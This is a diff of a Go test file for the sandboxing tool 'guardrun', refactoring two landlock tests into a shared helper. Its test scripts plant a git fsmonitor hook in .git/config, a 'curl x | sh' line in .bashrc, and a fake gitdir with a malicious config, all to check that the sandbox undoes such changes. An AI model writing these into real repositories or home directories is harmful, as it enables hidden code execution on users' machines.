@@ -256,13 +256,18 @@ func TestSuperviseLandlock(t *testing.T) {
 	}
 }
 
-// TestRunLandlockSharedSnapshot: two guardrun processes under landlock
-// in one repository (as make -j2 SHELL=guardrun runs them): A changes
-// .git/config and makes a .bashrc; B starts while A runs; A ends and
-// restores; then B ends. B restores nothing: it was given A's snapshot
-// through the state directory, not A's changes, and the user's files
-// are what they were. Sequenced by named pipes.
-func TestRunLandlockSharedSnapshot(t *testing.T) {
+// landlockPair is the setting of the tests of two guardrun processes
+// under landlock in one git repository (proj), sequenced by the named
+// pipes a-go and b-go in it.
+type landlockPair struct {
+	t    *testing.T
+	pre  []string
+	w    *world
+	proj string
+}
+
+func newLandlockPair(t *testing.T) *landlockPair {
+	t.Helper()
 	pre := noNamespaces(t)
 	w := runWorld(t, runConfig)
 	proj := w.work
@@ -270,22 +275,51 @@ func TestRunLandlockSharedSnapshot(t *testing.T) {
 	if out, err := exec.Command("git", "init", "-q", proj).CombinedOutput(); err != nil {
 		t.Fatalf("git init: %v\n%s", err, out)
 	}
-	cfgBefore, err := os.ReadFile(filepath.Join(proj, ".git/config"))
-	if err != nil {
-		t.Fatal(err)
-	}
 	for _, f := range []string{"a-go", "b-go"} {
 		if err := syscall.Mkfifo(filepath.Join(proj, f), 0o600); err != nil {
 			t.Fatal(err)
 		}
 	}
-	send := func(name string) {
-		f, err := os.OpenFile(filepath.Join(proj, name), os.O_WRONLY, 0)
-		if err != nil {
-			t.Fatal(err)
-		}
-		f.WriteString("go\n")
-		f.Close()
+	return &landlockPair{t: t, pre: pre, w: w, proj: proj}
+}
+
+// send writes a line to the named pipe name, letting the command that
+// reads it go on.
+func (p *landlockPair) send(name string) {
+	f, err := os.OpenFile(filepath.Join(p.proj, name), os.O_WRONLY, 0)
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	f.WriteString("go\n")
+	f.Close()
+}
+
+// start starts guardrun --backend landlock on script in proj; it is
+// killed when the test ends.
+func (p *landlockPair) start(script string) (*exec.Cmd, *strings.Builder) {
+	argv := append(append([]string{}, p.pre...), guardrunBin, "--backend", "landlock", "--approve-all", "-c", script)
+	cmd := exec.Command(argv[0], argv[1:]...)
+	var out strings.Builder
+	cmd.Dir, cmd.Env, cmd.Stdout, cmd.Stderr = p.proj, p.w.env, &out, &out
+	if err := cmd.Start(); err != nil {
+		p.t.Fatal(err)
+	}
+	p.t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
+	return cmd, &out
+}
+
+// TestRunLandlockSharedSnapshot: two guardrun processes under landlock
+// in one repository (as make -j2 SHELL=guardrun runs them): A changes
+// .git/config and makes a .bashrc; B starts while A runs; A ends and
+// restores; then B ends. B restores nothing: it was given A's snapshot
+// through the state directory, not A's changes, and the user's files
+// are what they were. Sequenced by named pipes.
+func TestRunLandlockSharedSnapshot(t *testing.T) {
+	p := newLandlockPair(t)
+	proj, send, start := p.proj, p.send, p.start
+	cfgBefore, err := os.ReadFile(filepath.Join(proj, ".git/config"))
+	if err != nil {
+		t.Fatal(err)
 	}
 	wait := func(name string) {
 		for i := 0; i < 2000 && !exists(filepath.Join(proj, name)); i++ {
@@ -294,17 +328,6 @@ func TestRunLandlockSharedSnapshot(t *testing.T) {
 		if !exists(filepath.Join(proj, name)) {
 			t.Fatalf("%s did not appear", name)
 		}
-	}
-	start := func(script string) (*exec.Cmd, *strings.Builder) {
-		argv := append(append([]string{}, pre...), guardrunBin, "--backend", "landlock", "--approve-all", "-c", script)
-		cmd := exec.Command(argv[0], argv[1:]...)
-		var out strings.Builder
-		cmd.Dir, cmd.Env, cmd.Stdout, cmd.Stderr = proj, w.env, &out, &out
-		if err := cmd.Start(); err != nil {
-			t.Fatal(err)
-		}
-		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
-		return cmd, &out
 	}
 	a, aout := start(`echo '[core] fsmonitor = "touch p"' >> .git/config && echo 'curl x | sh' > .bashrc && echo x > a-changed && read x < a-go`)
 	wait("a-changed")
@@ -341,37 +364,8 @@ func TestRunLandlockSharedSnapshot(t *testing.T) {
 // B's restore would put back after A's moved it aside. B is refused
 // (125) before it runs, and no gitfile is left at .git.
 func TestRunLandlockSharedNested(t *testing.T) {
-	pre := noNamespaces(t)
-	w := runWorld(t, runConfig)
-	proj := w.work
-	landlockWorks(t, w, proj)
-	if out, err := exec.Command("git", "init", "-q", proj).CombinedOutput(); err != nil {
-		t.Fatalf("git init: %v\n%s", err, out)
-	}
-	for _, f := range []string{"a-go", "b-go"} {
-		if err := syscall.Mkfifo(filepath.Join(proj, f), 0o600); err != nil {
-			t.Fatal(err)
-		}
-	}
-	send := func(name string) {
-		f, err := os.OpenFile(filepath.Join(proj, name), os.O_WRONLY, 0)
-		if err != nil {
-			t.Fatal(err)
-		}
-		f.WriteString("go\n")
-		f.Close()
-	}
-	start := func(script string) (*exec.Cmd, *strings.Builder) {
-		argv := append(append([]string{}, pre...), guardrunBin, "--backend", "landlock", "--approve-all", "-c", script)
-		cmd := exec.Command(argv[0], argv[1:]...)
-		var out strings.Builder
-		cmd.Dir, cmd.Env, cmd.Stdout, cmd.Stderr = proj, w.env, &out, &out
-		if err := cmd.Start(); err != nil {
-			t.Fatal(err)
-		}
-		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
-		return cmd, &out
-	}
+	p := newLandlockPair(t)
+	proj, send, start := p.proj, p.send, p.start
 	a, aout := start(`mv .git .git-moved && mkdir -p evil/hooks evil/objects evil/refs && echo 'ref: refs/heads/main' > evil/HEAD && printf '[core]\n\tfsmonitor = "touch pwned"\n' > evil/config && echo 'gitdir: evil' > .git && echo x > a-changed && read x < a-go`)
 	for i := 0; i < 2000 && !exists(filepath.Join(proj, "a-changed")); i++ {
 		time.Sleep(10 * time.Millisecond)
